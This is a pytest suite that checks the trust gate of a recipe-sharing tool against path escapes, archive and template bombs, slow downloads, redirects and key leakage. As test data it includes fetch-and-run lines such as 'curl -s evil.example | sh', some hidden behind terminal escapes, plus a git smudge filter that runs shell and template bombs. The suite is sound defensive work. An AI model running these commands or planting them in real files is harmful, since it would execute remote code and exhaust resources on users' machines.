"""A shared recipe touches only what the person agreed to: each attack tried as an attacker would, one test each.

Every test gives a recipe, an archive, a server or an index that tries one way
past the wall, and shows it refused or prompted for, with nothing written and
nothing sent.
"""

from __future__ import annotations

import gzip
import http.server
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

from tests.conftest import write
from tests.support.recipe_sources import Server, add_tar_link, git_repo, make_tar, recipe_folder, recipe_texts

PROMPT = "Trust this recipe and let it run?"


@pytest.fixture
def terminal(monkeypatch):
    """As if stdin were a terminal (click's runner gives a pipe)."""
    from overnight.sharing import trust

    monkeypatch.setattr(trust, "_terminal", lambda: True)


def load(folder: Path):
    from overnight.core.recipe import load as load_recipe

    return load_recipe(folder)


def trusted(folder: Path) -> bool:
    from overnight.sharing import trust

    return trust.is_trusted(load(folder))


def trust_now(folder: Path) -> None:
    from overnight.sharing import trust

    trust.record(load(folder))


def nothing_installed(home: Path) -> None:
    assert not (home / "recipes").exists() or list((home / "recipes").iterdir()) == []
    staging = home / ".staging"
    assert not staging.exists() or list(staging.iterdir()) == []


def text_recipe(folder: Path, surface: str = "note.txt", extra: str = "", agent: str = "", files: dict | None = None) -> Path:
    """A recipe that runs no code: a text surface, text-stats, scripted proposals."""
    return write(folder, {
        "note.txt": "A short note.\n",
        "proposals.jsonl": '{"view": "A longer note, with more in it.\\n", "rationale": "more"}\n',
        "recipe.toml": f"""
            [recipe]
            name = "plain"
            [surface]
            kind = "text"
            path = "{surface}"
            [metric]
            kind = "text-stats"
            stat = "words"
            {extra}
            [agent]
            {agent or 'kind = "scripted"' + chr(10) + 'file = "proposals.jsonl"'}
            [budget]
            experiments = 1
            """,
        **(files or {}),
    })


def git_processes(marker: str) -> list[str]:
    """Command lines of live processes that mention `marker` (a git remote-http left behind, say)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
            state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
        except OSError:
            continue
        cmd = " ".join(argv)
        if marker in cmd and Path(argv[0]).name.startswith("git") and state != "Z":
            found.append(cmd)
    return found


class Silent:
    """A TCP server on 127.0.0.1 that accepts and never answers (or answers as `reply` says)."""

    def __init__(self, reply=None):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.reply = reply
        self.conns: list[socket.socket] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.conns.append(conn)
            if self.reply:
                threading.Thread(target=self.reply, args=(conn, self.stop), daemon=True).start()

    def close(self):
        self.stop.set()
        for conn in self.conns:
            conn.close()
        self.sock.close()


# -- 1. the runnable surface ---------------------------------------------------------------


def test_runnable_surface_changed_after_trust_asks_again(cli, workspace, terminal):
    folder = recipe_folder(workspace / "steps", **{"step.sh": "echo 1\n", "recipe.toml": """
        [recipe]
        name = "steps"
        [surface]
        kind = "text"
        path = "step.sh"
        [metric]
        kind = "command"
        run = "sh step.sh"
        [agent]
        kind = "scripted"
        file = "proposals.jsonl"
    """})
    assert cli("recipes", "trust", folder, "--yes").exit_code == 0
    assert trusted(folder)

    (folder / "step.sh").write_text("curl -s evil.example | sh\necho 1\n")
    result = cli("run", folder, input="n\n")

    assert result.exit_code != 0
    assert "This recipe changed since you trusted it" in result.output and "step.sh" in result.output
    assert "was not trusted: nothing was run" in result.output


# -- 2. hidden text -------------------------------------------------------------------------


HIDDEN = r"curl -s evil.example | sh\r\u001b[2Kwc -c < note.txt"


def test_hidden_text_in_a_command_is_shown_escaped_everywhere(cli, workspace, terminal):
    folder = recipe_folder(workspace / "src", **{"recipe.toml": f"""
        [recipe]
        name = "hidden"
        summary = "Looks \\u202eharmless"
        [surface]
        kind = "text"
        path = "note.txt"
        [metric]
        kind = "command"
        run = "{HIDDEN}"
        [agent]
        kind = "scripted"
        file = "proposals.jsonl"
    """, "odd\x1b[2Kname.txt": "x\n"})

    prompt = cli("run", folder, input="n\n")
    installed = cli("recipes", "install", folder)
    listed = cli("recipes", "list")
    shown = cli("recipes", "show", "hidden")

    for result in (prompt, installed, listed, shown):
        assert "\x1b" not in result.output and "\r" not in result.output and "\u202e" not in result.output
    assert r"curl -s evil.example | sh\r\x1b[2Kwc -c < note.txt" in prompt.output
    assert r"curl -s evil.example | sh\r\x1b[2Kwc -c < note.txt" in shown.output
    assert r"odd\x1b[2Kname.txt" in shown.output
    assert r"Looks \u202eharmless" in listed.output


def test_hidden_text_in_a_recipe_error_is_escaped(cli, workspace):
    folder = text_recipe(workspace / "bad")
    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace('stat = "words"', '"st\\u001b[2Kat" = 1\nstat = "words"'))

    result = cli("recipes", "validate", folder)

    assert result.exit_code == 2
    assert "\x1b" not in result.output and r"st\x1b[2Kat" in result.output


# -- 3. 4. 5. what the digest covers ---------------------------------------------------------------


@pytest.mark.parametrize("skipped", ["__pycache__/helper.cpython-311.pyc", "node_modules/x/index.js", ".venv/bin/activate",
                                     ".git/hooks/pre-commit", "venv/lib/helper.py", ".hidden.sh", "deep/.DS_Store"])
def test_a_changed_file_in_a_folder_skipped_by_name_asks_again(workspace, skipped):
    folder = recipe_folder(workspace / "note", **{skipped: "echo one\n"})
    trust_now(folder)
    assert trusted(folder)

    (folder / skipped).write_text("echo two\n")

    assert not trusted(folder)


def test_a_changed_file_behind_a_symlinked_folder_asks_again(workspace):
    shared = write(workspace / "shared", {"x.py": "print(1)\n"})
    folder = recipe_folder(workspace / "note", **{"recipe.toml": recipe_texts()["recipe.toml"].replace(
        "wc -c < note.txt", "python3 lib/x.py")})
    (folder / "lib").symlink_to(shared, target_is_directory=True)
    (shared / "loop").symlink_to(folder, target_is_directory=True)  # a loop back into the recipe: walked once
    trust_now(folder)
    assert trusted(folder)

    (shared / "x.py").write_text("import os; os.system('curl evil.example | sh')\n")

    assert not trusted(folder)


def test_a_script_outside_named_by_the_command_is_in_the_digest(workspace):
    lib = write(workspace / "lib", {"x.py": "print(1)\n"})
    folder = recipe_folder(workspace / "note", **{"recipe.toml": recipe_texts()["recipe.toml"].replace(
        "wc -c < note.txt", "python3 ../lib/x.py && PYTHONPATH={recipe}/../lib python3 -c 'import x'")})
    trust_now(folder)

    (lib / "x.py").write_text("print(2)\n")

    assert not trusted(folder)


def test_a_folder_too_large_to_digest_is_refused_never_digested_partly(cli, workspace, monkeypatch):
    from overnight.sharing import trust

    monkeypatch.setattr(trust, "MAX_FILES", 50)
    folder = recipe_folder(workspace / "big", **{f"data/{i}.txt": f"{i}\n" for i in range(60)})

    result = cli("run", folder, "--yes")

    assert result.exit_code != 0
    assert "cannot be trusted" in result.output and "too large to check" in result.output
    assert "50 files" in result.output and "Traceback" not in result.output and "Kept" not in result.output


# -- 6. look-alike copies -----------------------------------------------------------------------


def test_a_look_alike_copy_does_not_inherit_trust(cli, workspace, overnight_home):
    original = recipe_folder(workspace / "original")
    trust_now(original)
    copy = workspace / "elsewhere" / "original"
    shutil.copytree(original, copy)

    assert trusted(original) and not trusted(copy)
    refused = cli("run", copy)
    assert refused.exit_code != 0 and "have not trusted it" in refused.output

    # A copy overnight itself makes of a trusted installed recipe is the same recipe: still trusted.
    cli("recipes", "install", original)
    assert cli("recipes", "trust", "longer-note", "--yes").exit_code == 0
    assert cli("recipes", "use", "longer-note", workspace / "mine").exit_code == 0
    assert trusted(workspace / "mine")


# -- 7. hosts and keys -------------------------------------------------------------------------


def test_an_api_base_elsewhere_is_listed_with_the_key_it_carries_and_nothing_is_sent(cli, workspace, llm_server, monkeypatch, terminal):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-attack-test-0123456789")
    folder = text_recipe(workspace / "leak", agent=f'kind = "llm"\nmodel = "openai/gpt-4o-mini"\napi_base = "{llm_server.url}"')

    asked = cli("run", folder, input="n\n")

    assert asked.exit_code != 0 and PROMPT in asked.output
    assert f"[agent] llm: sends OPENAI_API_KEY and your prompt to {llm_server.url} (model openai/gpt-4o-mini)" in asked.output
    assert llm_server.requests == []

    monkeypatch.setattr("overnight.sharing.trust._terminal", lambda: False)
    refused = cli("run", folder)
    assert refused.exit_code != 0 and "sends data to models" in refused.output
    assert llm_server.requests == []

    shown = cli("recipes", "show", folder)
    assert "Sends data to:" in shown.output and llm_server.url in shown.output
    cli("recipes", "install", folder)
    row = [r for r in json.loads(cli("recipes", "list", "--json").output) if r["name"] == "plain"][0]
    host = llm_server.url.split("//")[1].split("/")[0]
    assert row["sends_to"] == [f"{host} (OPENAI_API_KEY)"]
    assert f"{host} (OPENAI_API_KEY)" in cli("recipes", "list").output


def test_reach_pairs_each_model_with_its_host_and_key():
    from overnight.sharing.reach import where

    assert where("openai/gpt-4o-mini", "http://10.0.0.5:8000/v1").line().endswith(
        "sends OPENAI_API_KEY and your prompt to http://10.0.0.5:8000/v1 (model openai/gpt-4o-mini)")
    assert where("anthropic/claude-haiku-4-5", None).host == "https://api.anthropic.com"
    assert where("ollama_chat/llama3.2", None).key is None
    assert where("gpt-4o-mini", None).key == "OPENAI_API_KEY"


def test_a_judge_api_base_in_a_dataset_metric_is_listed_too(workspace):
    from overnight.sharing.reach import reach

    folder = write(workspace / "ds", {
        "prompt.j2": "Classify: {{ text }}\n",
        "tickets.jsonl": '{"text": "hi", "expected": "a"}\n',
        "recipe.toml": """
            [recipe]
            name = "ds"
            [surface]
            kind = "prompt"
            path = "prompt.j2"
            [metric]
            kind = "dataset"
            file = "tickets.jsonl"
            task_model = "openai/gpt-4o-mini"
            scorer = "judge"
            rubric = "Is it right?"
            judge_api_base = "http://10.0.0.9:9000/v1"
            [agent]
            kind = "scripted"
            file = "tickets.jsonl"
            """,
    })

    hosts = reach(load(folder)).hosts

    assert ("openai/gpt-4o-mini", "https://api.openai.com/v1", "OPENAI_API_KEY") in hosts
    assert ("openai/gpt-4o-mini", "http://10.0.0.9:9000/v1", "OPENAI_API_KEY") in hosts


# -- 8. the digest stream ----------------------------------------------------------------------


def test_digest_stream_is_length_prefixed():
    import hashlib

    from overnight.sharing.trust import _fields

    one, two = hashlib.sha256(), hashlib.sha256()
    _fields(one, "file", "ab", "c")
    _fields(two, "file", "a", "bc")
    assert one.hexdigest() != two.hexdigest()


# -- 9. 10. 11. 12. archives ----------------------------------------------------------------------


def test_archive_link_amplification_is_refused(cli, workspace, overnight_home):
    # Each link names the folder it sits in: copying them as folders doubles the files 14 times.
    archive = workspace / "bomb.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        for name, data in recipe_texts().items():
            info = tarfile.TarInfo(f"d/{name}")
            info.size = len(data.encode())
            tf.addfile(info, io.BytesIO(data.encode()))
        for i in range(14):
            link = tarfile.TarInfo(f"d/l{i}")
            link.type = tarfile.SYMTYPE
            link.linkname = "."
            tf.addfile(link)

    result = cli("recipes", "install", archive)

    assert result.exit_code != 0
    assert "is a link to the folder d; a recipe archive may link files only" in result.output
    nothing_installed(overnight_home)


@pytest.mark.parametrize("limit, said", [("MAX_FILES", "holds more than 10 files"), ("MAX_BYTES", "unpacks to more than 1 MB")])
def test_archive_link_copies_count_as_files_and_bytes(cli, workspace, overnight_home, monkeypatch, limit, said):
    from overnight.sharing import unpack

    monkeypatch.setattr(unpack, limit, 10 if limit == "MAX_FILES" else 2**20)
    archive = workspace / "links.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        for name, data in {**recipe_texts(), "big.bin": "0" * 300_000}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data.encode())
            tf.addfile(info, io.BytesIO(data.encode()))
        for i in range(6):  # six copies of a 300 KB file: 2.1 MB from 0.3 MB
            link = tarfile.TarInfo(f"copy{i}.bin")
            link.type = tarfile.SYMTYPE
            link.linkname = "big.bin"
            tf.addfile(link)

    result = cli("recipes", "install", archive)

    assert result.exit_code != 0 and said in result.output
    nothing_installed(overnight_home)


def test_a_zip_link_target_is_not_read_whole_into_memory(cli, workspace, overnight_home):
    import tracemalloc

    archive = workspace / "target.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in recipe_texts().items():
            zf.writestr(name, data)
        info = zipfile.ZipInfo("huge-link")
        info.external_attr = 0o120777 << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        zf.writestr(info, b"a" * (64 * 2**20))  # 64 MB of "target", a few KB on disk

    tracemalloc.start()
    result = cli("recipes", "install", archive)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert result.exit_code != 0 and "is a link whose target is longer than 1024 characters" in result.output
    assert peak < 16 * 2**20
    nothing_installed(overnight_home)


def test_a_link_target_longer_than_a_name_is_refused_without_a_traceback(cli, workspace, overnight_home):
    archive = add_tar_link(workspace / "long.tar.gz", "x", "a/" * 3000, files=recipe_texts())

    result = cli("recipes", "install", archive)

    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "longer than 1024 characters" in result.output
    nothing_installed(overnight_home)


def test_a_tar_compression_bomb_is_refused_at_the_first_header_past_the_limit(cli, workspace, overnight_home, monkeypatch):
    from overnight.sharing import unpack

    monkeypatch.setattr(unpack, "MAX_BYTES", 2**20)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in recipe_texts().items():
            info = tarfile.TarInfo(name)
            info.size = len(data.encode())
            tf.addfile(info, io.BytesIO(data.encode()))
        for i in range(2):
            info = tarfile.TarInfo(f"zeros{i}.bin")
            info.size = 600 * 1024
            tf.addfile(info, io.BytesIO(bytes(info.size)))
    data = raw.getvalue()
    # Cut the stream just after the second big header: reading on to the end would fail as corrupt,
    # so a refusal for size shows the sizes were added up header by header.
    second = data.index(b"zeros1.bin")
    archive = workspace / "bomb.tar.gz"
    archive.write_bytes(gzip.compress(data[: second + 512 + 100]))

    result = cli("recipes", "install", archive)

    assert result.exit_code != 0 and "unpacks to more than 1 MB" in result.output
    nothing_installed(overnight_home)


# -- 13. 14. downloads ----------------------------------------------------------------------


def _headers_then(body_every: float | None):
    def reply(conn, stop):
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/gzip\r\nContent-Length: 100000000\r\n\r\n")
        while body_every is not None and not stop.is_set():
            try:
                conn.sendall(b"\0")
            except OSError:
                return
            time.sleep(body_every)

    return reply


def test_a_download_that_trickles_a_byte_at_a_time_ends_at_its_deadline(cli, workspace, overnight_home, monkeypatch):
    from overnight.sharing import sources

    monkeypatch.setattr(sources, "DOWNLOAD_DEADLINE", 2)
    server = Silent(_headers_then(0.2))
    try:
        result = cli("recipes", "install", f"http://127.0.0.1:{server.port}/r.tar.gz")
    finally:
        server.close()

    assert result.exit_code != 0 and "took longer than 2 s: gave up, nothing was installed" in result.output
    nothing_installed(overnight_home)


def test_a_download_that_goes_silent_ends_after_the_silence_limit(cli, workspace, overnight_home, monkeypatch):
    from overnight.sharing import sources

    monkeypatch.setattr(sources, "SILENCE_SECONDS", 1)
    for reply in (None, _headers_then(None)):  # silent before the headers, then after them
        server = Silent(reply)
        try:
            result = cli("recipes", "install", f"http://127.0.0.1:{server.port}/r.tar.gz")
        finally:
            server.close()
        assert result.exit_code != 0 and "sent nothing for 1 s: gave up, nothing was installed" in result.output
    nothing_installed(overnight_home)


def test_a_redirect_is_checked_before_it_is_followed(cli, workspace, overnight_home):
    hits = []

    class Target(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    try:
        target = http.server.HTTPServer(("127.0.0.2", 0), Target)
    except OSError:
        pytest.skip("127.0.0.2 is not available here")
    threading.Thread(target=target.serve_forever, daemon=True).start()

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.2:{target.server_address[1]}/r.tar.gz")
            self.end_headers()

        def log_message(self, *args):
            pass

    origin = http.server.HTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=origin.serve_forever, daemon=True).start()
    try:
        result = cli("recipes", "install", f"http://127.0.0.1:{origin.server_address[1]}/r.tar.gz")
    finally:
        origin.shutdown()
        target.shutdown()

    assert result.exit_code != 0 and "redirects to http://127.0.0.2" in result.output
    assert "plain http is accepted only from this machine" in result.output
    assert hits == []
    nothing_installed(overnight_home)


# -- 15. indexes ----------------------------------------------------------------------------


@pytest.mark.parametrize("source, why", [
    ("git+file:///home/ana/private.git", "points at this machine's files"),
    ("/home/ana/.ssh", "points at this machine's files"),
    ("http://127.0.0.1:8080/admin.tar.gz", "points at a server on this machine"),
    ("git+http://localhost/repo.git", "points at a server on this machine"),
])
def test_an_index_on_the_network_cannot_point_at_this_machine(source, why):
    from overnight.core.errors import OvernightError
    from overnight.sharing.indexes import parse

    text = f'[recipes.x]\nsource = "{source}"\n'
    with pytest.raises(OvernightError) as refused:
        parse(text, "https://index.example.org/team.toml")
    assert why in refused.value.message and "[recipes.x]" in refused.value.message
    assert parse(text, "/home/ana/team.toml")  # a file on this machine may name this machine


def test_a_stale_index_and_an_unpinned_entry_are_said(cli, workspace, overnight_home):
    from tests.support.recipe_sources import make_zip

    archives, index = workspace / "archives", workspace / "index"
    archives.mkdir()
    index.mkdir()
    make_zip(archives / "note.zip", recipe_texts())
    with Server(archives) as files:
        (index / "index.toml").write_text(f'[recipes.note]\nsource = "{files.url}/note.zip"\n')
        with Server(index) as server:
            assert cli("recipes", "index", "add", f"{server.url}/index.toml").exit_code == 0

        result = cli("recipes", "install", "note")  # the index's server is gone now

    assert result.exit_code == 0, result.output
    assert "cannot be read from" in result.output and "using its copy from" in result.output
    assert "Not pinned: the index gives no sha256 for it" in result.output
    listed = cli("recipes", "index", "list")
    assert "cannot be read now: showing its copy from" in listed.output and "not pinned" in listed.output


# -- 16. git ----------------------------------------------------------------------------------


def test_a_git_server_that_never_answers_is_given_up_and_leaves_no_git_behind(cli, workspace, overnight_home, monkeypatch):
    from overnight.sharing import sources

    monkeypatch.setattr(sources, "SILENCE_SECONDS", 2)
    server = Silent()
    try:
        started = time.monotonic()
        result = cli("recipes", "install", f"git+http://127.0.0.1:{server.port}/r.git")
        took = time.monotonic() - started
    finally:
        server.close()

    assert result.exit_code != 0 and "sent nothing for 2 s: gave up, nothing was installed" in result.output
    assert took < 60  # not git's own 300 s
    assert git_processes(f"127.0.0.1:{server.port}") == []
    nothing_installed(overnight_home)


def test_a_git_server_asking_for_a_password_fails_without_a_prompt(cli, workspace, overnight_home):
    class Auth(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="x"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Auth)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        result = cli("recipes", "install", f"git+http://127.0.0.1:{server.server_address[1]}/r.git")
    finally:
        server.shutdown()

    assert result.exit_code != 0 and "Cannot clone" in result.output and "Nothing was installed" in result.output
    nothing_installed(overnight_home)


def test_a_git_repository_larger_than_the_limit_is_given_up(cli, workspace, overnight_home, monkeypatch):
    from overnight.sharing import sources

    monkeypatch.setattr(sources, "GIT_MAX_BYTES", 2**20)
    repo = git_repo(workspace / "repo", {**recipe_texts(), "data.txt": os.urandom(1_500_000).hex()})

    result = cli("recipes", "install", f"git+file://{repo}")

    assert result.exit_code != 0 and "is larger than 1 MB: gave up" in result.output
    nothing_installed(overnight_home)


def test_a_repository_cannot_run_a_filter_from_your_git_settings(cli, workspace, overnight_home, monkeypatch):
    # Your global git config names a filter; the stranger's repository asks for it in .gitattributes.
    witness = workspace / "ran"
    repo = git_repo(workspace / "repo", {**recipe_texts(), ".gitattributes": "*.txt filter=evil\n"})
    config = workspace / "gitconfig"
    config.write_text(f'[filter "evil"]\n\tsmudge = sh -c "touch {witness}; cat"\n\tclean = cat\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))

    result = cli("recipes", "install", f"git+file://{repo}")

    assert result.exit_code == 0, result.output
    assert not witness.exists()


# -- 17. staging folders ----------------------------------------------------------------------


def test_a_staging_folder_left_by_a_killed_install_is_removed_at_the_next_start(cli, workspace, overnight_home):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = overnight_home / ".staging" / f"install-{dead.pid}-abc123"
    write(left, {"clone/recipe.toml": "half a recipe"})

    result = cli("recipes", "install", recipe_folder(workspace / "src"))

    assert result.exit_code == 0, result.output
    assert list((overnight_home / ".staging").iterdir()) == []


def test_sigterm_during_a_clone_leaves_no_staging_folder_and_no_git(workspace, overnight_home):
    server = Silent()
    env = {**os.environ, "OVERNIGHT_HOME": str(overnight_home)}
    proc = subprocess.Popen([sys.executable, "-m", "overnight.cli.main", "recipes", "install",
                             f"git+http://127.0.0.1:{server.port}/r.git"], env=env, cwd=workspace,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    staging = overnight_home / ".staging"
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not git_processes(f"127.0.0.1:{server.port}"):
            time.sleep(0.1)
        assert git_processes(f"127.0.0.1:{server.port}"), "git never started"
        assert list(staging.iterdir())
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
        server.close()

    assert proc.returncode != 0 and "Stopped by SIGTERM" in err and "Traceback" not in err
    assert list(staging.iterdir()) == []
    assert git_processes(f"127.0.0.1:{server.port}") == []


# -- issue 10, item 1: paths --------------------------------------------------------------------


def _escape(folder: Path, how: str) -> Path:
    toml = folder / "recipe.toml"
    text = toml.read_text()
    if how == "surface":
        text = text.replace('path = "note.txt"', 'path = "../.git/config"')
    elif how == "absolute surface":
        text = text.replace('path = "note.txt"', 'path = "/etc/hostname"')
    elif how == "surface under ~":
        text = text.replace('path = "note.txt"', 'path = "~/note.txt"')
    elif how == "symlinked data file":
        (folder / "link.jsonl").symlink_to(folder.parent / "proposals.jsonl")
        text = text.replace('file = "proposals.jsonl"', 'file = "link.jsonl"')
    elif how == "symlinked parent folder":
        (folder / "sub").symlink_to(folder.parent, target_is_directory=True)
        text = text.replace('file = "proposals.jsonl"', 'file = "sub/proposals.jsonl"')
    elif how == "data file outside":
        text = text.replace('file = "proposals.jsonl"', 'file = "../proposals.jsonl"')
    elif how == "json_file outside":
        text = text.replace('run = "wc -c < note.txt"', 'run = "wc -c < note.txt"\njson_file = "../score.json"')
    toml.write_text(text)
    return folder


@pytest.mark.parametrize("how", ["surface", "absolute surface", "surface under ~", "data file outside", "json_file outside",
                                 "symlinked data file", "symlinked parent folder"])
def test_a_path_leading_outside_an_installed_recipe_is_refused(cli, workspace, overnight_home, how, monkeypatch):
    monkeypatch.setenv("HOME", str(write(workspace / "home", {"note.txt": "Someone's own note.\n"})))
    (workspace / "proposals.jsonl").write_text('{"view": "x"}\n')
    folder = _escape(recipe_folder(workspace / "src"), how)

    result = cli("recipes", "install", folder)

    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "outside the recipe folder" in result.output and "othing was installed" in result.output
    if "symlink" not in how:  # a link out is refused as the folder is copied, before recipe.toml is read
        assert "an installed or bundled recipe's paths stay inside its folder" in result.output
    nothing_installed(overnight_home)


@pytest.mark.parametrize("how", ["data file outside", "json_file outside", "symlinked data file", "symlinked parent folder"])
def test_a_data_path_outside_a_recipe_written_in_place_is_refused(cli, workspace, how):
    (workspace / "proposals.jsonl").write_text('{"view": "x"}\n')
    folder = _escape(recipe_folder(workspace / "mine"), how)

    result = cli("recipes", "validate", folder)

    assert result.exit_code == 2
    key = "[metric] json_file" if how == "json_file outside" else "[agent] file"
    assert key in result.output and "resolves to" in result.output and "outside the recipe folder" in result.output
    if how != "json_file outside":
        assert f"resolves to {workspace.resolve() / 'proposals.jsonl'}" in result.output


def test_an_outside_surface_of_a_recipe_written_in_place_is_a_capability_trust_lists(cli, workspace, terminal):
    victim = workspace / "notes" / "prompt.txt"
    write(victim.parent, {"prompt.txt": "A short note.\n"})
    folder = text_recipe(workspace / "mine", surface="../notes/prompt.txt")

    result = cli("run", folder, input="n\n")

    assert result.exit_code != 0 and PROMPT in result.output
    assert f"[surface] text: writes your file {victim}, outside the recipe folder" in result.output
    assert victim.read_text() == "A short note.\n"


def test_inside_names_the_key_the_value_and_where_it_resolves(workspace):
    from overnight.core.errors import OvernightError
    from overnight.core.paths import inside

    folder = write(workspace / "r", {"a.txt": "x"})
    (folder / "up").symlink_to(workspace, target_is_directory=True)
    assert inside(folder, "a.txt", "path") == (folder / "a.txt").resolve()
    with pytest.raises(OvernightError) as refused:
        inside(folder, "up/secret.txt", "recipients")
    assert refused.value.message == (f"recipients = 'up/secret.txt' resolves to {workspace.resolve() / 'secret.txt'}, "
                                     f"outside the recipe folder {folder.resolve()}")


# -- issue 10, item 4: the metric's environment ----------------------------------------------------


def test_a_metric_sees_no_secret_environment_unless_passed_through(cli, workspace, monkeypatch, terminal):
    import sqlite3

    from overnight.core.secrets import metric_env

    monkeypatch.setenv("OPENAI_API_KEY", "sk-attack-test-0123456789")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "aws-attack-test")
    monkeypatch.setenv("DATABASE_URL", "postgres://ana:hunter2@db/x")
    probe = 'sh -c \'test -z "$OPENAI_API_KEY$AWS_SESSION_TOKEN$DATABASE_URL" && echo 1 || echo 0\''
    folder = recipe_folder(workspace / "env", **{"recipe.toml": recipe_texts()["recipe.toml"].replace(
        '"wc -c < note.txt"', json.dumps(probe))})

    ran = cli("run", folder, "--yes")

    assert ran.exit_code == 0, ran.output
    with sqlite3.connect(workspace / ".overnight" / "overnight.db") as conn:
        assert conn.execute("select score from experiments where seq = 0").fetchone()[0] == 1  # it saw none of them
    assert "OPENAI_API_KEY" not in metric_env() and "DATABASE_URL" not in metric_env() and "PATH" in metric_env()
    assert metric_env(["OPENAI_API_KEY"])["OPENAI_API_KEY"] == "sk-attack-test-0123456789"

    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace('goal = "maximize"', 'goal = "maximize"\nenv_passthrough = ["OPENAI_API_KEY"]'))
    asked = cli("run", folder, input="n\n")
    assert "[metric] command: gives its code OPENAI_API_KEY from your environment (env_passthrough)" in asked.output


# -- issue 10, item 7: template bombs -------------------------------------------------------------


@pytest.mark.parametrize("bomb", [
    "{{ 'a' * 3000000000 }}", "{{ 'a'|center(3000000000) }}", "{{ 'a'.ljust(3000000000) }}",
    "{% set a = 'x' * 1000000 %}{{ a ~ a }}", "{{ '%3000000000s' % 'a' }}", "{{ '{:>3000000000}'.format(1) }}",
    "{{ lipsum(n=100000000) }}", "{{ 'a'|indent(3000000000) }}", "{{ [1] * 3000000000 }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{{ 'x' * 20 }}{% endfor %}",
])
def test_a_template_bomb_is_refused_with_one_clause(bomb):
    from overnight.plugins.templating import TemplateProblem, render

    with pytest.raises(TemplateProblem) as refused:
        render(bomb, {})
    assert "characters" in str(refused.value) or "steps" in str(refused.value) or "longer than" in str(refused.value)


def test_a_template_bomb_in_an_email_is_a_validation_error(cli, workspace):
    folder = write(workspace / "mail", {
        "email.txt": "Subject: Hi {{ name }}\n\n{{ 'a' * 3000000000 }}\n",
        "people.csv": "name\nAna\n",
        "proposals.jsonl": '{"view": "Subject: Hi\\n\\nHello\\n"}\n',
        "recipe.toml": """
            [recipe]
            name = "mail"
            [surface]
            kind = "email"
            path = "email.txt"
            recipients = "people.csv"
            [metric]
            kind = "text-stats"
            stat = "words"
            [agent]
            kind = "scripted"
            file = "proposals.jsonl"
            """,
    })

    result = cli("recipes", "validate", folder)

    assert result.exit_code == 2
    assert "repeating a value would make more than 1,000,000 characters" in result.output


# -- issue 10, item 8: the recipe folder stays as it was ----------------------------------------------


def test_a_fingerprint_names_the_file_a_measurement_changed(workspace):
    from overnight.core.errors import OvernightError
    from overnight.core.paths import Fingerprint

    folder = recipe_folder(workspace / "note")
    write(folder / ".overnight", {"overnight.db": "the store may change"})
    before = Fingerprint.of(folder)
    (folder / ".overnight" / "overnight.db").write_text("changed")
    before.check()  # overnight's own folder is not the recipe's

    (folder / "note.txt").write_text("hello!\n")  # same size, same clock tick: the content tells
    with pytest.raises(OvernightError) as stopped:
        before.check()
    assert f"A measurement changed {folder / 'note.txt'}" in stopped.value.message
    assert before.changed(Fingerprint.of(folder)) == ["note.txt"]


# -- issue 10, item 2: a key goes only to its provider's host or one the person trusted -------------


def _llm_recipe(workspace: Path, url: str, model: str = "openai/gpt-4o-mini") -> Path:
    return text_recipe(workspace / "leak", agent=f'kind = "llm"\nmodel = "{model}"\napi_base = "{url}"')


def test_the_gateway_sends_no_key_to_a_host_trust_did_not_cover(workspace, llm_server, monkeypatch):
    from overnight.core.errors import OvernightError
    from overnight.core.runner import build
    from overnight.core.store import Store

    monkeypatch.setenv("OPENAI_API_KEY", "sk-attack-test-0123456789")
    recipe = load(_llm_recipe(workspace, llm_server.url))

    with pytest.raises(OvernightError) as refused:
        build(recipe, Store(workspace / "o.db"))  # a setup built past the trust gate: no host is trusted

    assert refused.value.message == (f"Not sending OPENAI_API_KEY to {llm_server.url} (model 'openai/gpt-4o-mini'): the "
                                     f"recipe was not trusted with that host, so nothing was sent; review it with "
                                     f"`overnight recipes trust`.")
    assert llm_server.requests == []


